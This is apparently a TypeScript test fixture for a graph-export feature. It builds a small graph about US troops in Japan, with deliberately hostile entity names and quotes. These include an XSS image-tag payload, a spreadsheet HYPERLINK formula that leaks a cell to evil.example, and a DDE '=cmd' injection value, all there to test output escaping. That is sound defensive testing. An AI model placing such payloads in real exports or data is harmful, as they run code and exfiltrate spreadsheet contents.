import type { SerializedGraph } from '../../../server/src/graph/serialization.js';
import { graphOptions } from '../../../server/src/graph/serialization.js';

/** Markup, quotes, an ampersand and script: what a hostile article could make an entity's name. */
export const hostileName = '<img src=x onerror=alert(1)> & "Q"';
/** A spreadsheet formula that would fetch a URL when the CSV is opened. */
export const formulaName = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

/** A small graph with the awkward cases every format must carry: odd names, lists, absent values, two claims. */
export function fixtureGraph(): SerializedGraph {
  return {
    attributes: { name: 'Alliance Atlas' },
    options: { ...graphOptions },
    nodes: [
      { key: 'JP', attributes: { kind: 'Country', name: 'Japan', aliases: ['Japans', 'japanisch'], wikidata: 'Q17' } },
      { key: 'US', attributes: { kind: 'Country', name: 'Vereinigte Staaten', aliases: [], wikidata: 'Q30' } },
      {
        key: 'hostile',
        attributes: {
          kind: 'Person',
          name: hostileName,
          aliases: ['a, b', 'c | d', 'say "hi"', 'back\\slash', "it's"],
        },
      },
      { key: 'formula', attributes: { kind: 'Organization', name: formulaName, aliases: ['+1', '-2', '@x'] } },
      { key: 'camp-schwab', attributes: { kind: 'Base', name: 'Camp Schwab', aliases: ['Schwab\tTab'] } },
    ],
    edges: [
      {
        key: 'STATIONS_TROOPS_IN:US->JP',
        source: 'US',
        target: 'JP',
        attributes: {
          type: 'STATIONS_TROOPS_IN',
          evidence: [
            {
              article: 'a1',
              title: 'Truppen <in> Japan',
              source: 'Outlet & Co',
              publishedAt: '2024-07-28',
              sentence: 2,
              start: 10,
              end: 80,
              quote: 'Die USA haben rund 55.000 Soldaten in Japan stationiert.',
              count: 55000,
            },
            {
              article: 'a2',
              title: null,
              source: null,
              publishedAt: null,
              sentence: 0,
              start: 0,
              end: 40,
              quote: 'Etwa 54.000 "US-Soldaten"\nsind dort.',
              count: 54000,
            },
          ],
          articles: 2,
          outlets: 2,
          firstReported: '2024-07-28',
          lastReported: '2024-07-28',
          contested: true,
        },
      },
      {
        key: 'REPRESENTS:hostile->JP',
        source: 'hostile',
        target: 'JP',
        attributes: {
          type: 'REPRESENTS',
          evidence: [
            {
              article: 'a1',
              title: 'Truppen <in> Japan',
              source: 'Outlet & Co',
              publishedAt: '2024-07-28',
              sentence: 5,
              start: 200,
              end: 260,
              quote: `${hostileName} vertritt Japan.`,
              role: 'Außenminister',
            },
          ],
          articles: 1,
          outlets: 1,
          firstReported: '2024-07-28',
          lastReported: '2024-07-28',
          contested: false,
        },
      },
      {
        key: 'OPERATES:US->camp-schwab',
        source: 'US',
        target: 'camp-schwab',
        attributes: {
          type: 'OPERATES',
          evidence: [
            {
              article: 'a3',
              title: 'Okinawa',
              source: 'Other',
              publishedAt: null,
              sentence: 1,
              start: 5,
              end: 30,
              quote: '=cmd|" /C calc"!A0',
            },
          ],
          articles: 1,
          outlets: 1,
          firstReported: null,
          lastReported: null,
          contested: false,
        },
      },
    ],
  };
}
